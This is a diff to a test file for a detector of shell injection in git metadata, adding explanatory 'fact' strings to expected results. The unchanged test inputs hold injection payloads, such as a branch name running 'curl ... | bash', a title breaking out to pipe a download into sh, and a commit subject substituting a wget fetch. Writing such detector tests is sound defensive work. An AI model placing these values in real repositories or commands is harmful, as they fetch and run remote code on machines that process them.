@@ -12,7 +12,11 @@ export default [
     kind: "fires",
     when: "a branch name substitutes a command",
     given: of("branch", "fix-$(curl${IFS}-s${IFS}example.org|bash)"),
-    expect: { outcome: "fired", severity: "critical" },
+    expect: {
+      outcome: "fired",
+      severity: "critical",
+      fact: "The branch name contains a complete command for a shell.",
+    },
   },
   {
     kind: "fires",
@@ -24,25 +28,37 @@ export default [
     kind: "fires",
     when: "a file name chains an interpreter",
     given: of("file_name", "docs/a;python3 -c x.md"),
-    expect: { outcome: "fired", severity: "critical" },
+    expect: {
+      outcome: "fired",
+      severity: "critical",
+      fact: "The name of a file contains a complete command for a shell.",
+    },
   },
   {
     kind: "fires",
     when: "a file name contains a line feed",
     given: of("file_name", "a\nb.md"),
-    expect: { outcome: "fired", severity: "high" },
+    expect: {
+      outcome: "fired",
+      severity: "high",
+      fact: "The name of a file contains characters that a shell would act on.",
+    },
   },
   {
     kind: "fires",
     when: "a title breaks out of a quoted string",
     given: of("title", 'docs"; curl https://example.org/x | sh; echo "'),
-    expect: { outcome: "fired", severity: "high" },
+    expect: { outcome: "fired", severity: "high", fact: "The title contains characters that a shell would act on." },
   },
   {
     kind: "fires",
     when: "a commit subject substitutes a download",
     given: of("commit_subject", "fix $(wget -qO- example.org)"),
-    expect: { outcome: "fired", severity: "high" },
+    expect: {
+      outcome: "fired",
+      severity: "high",
+      fact: "The subject of a commit contains characters that a shell would act on.",
+    },
   },
   {
     kind: "look_alike",
@@ -88,7 +104,11 @@ export default [
     kind: "boundary",
     when: "a branch name with a substitution that runs no program",
     given: of("branch", "fix-$(x)"),
-    expect: { outcome: "fired", severity: "high" },
+    expect: {
+      outcome: "fired",
+      severity: "high",
+      fact: "The branch name contains characters that a shell would act on.",
+    },
   },
   {
     kind: "boundary",
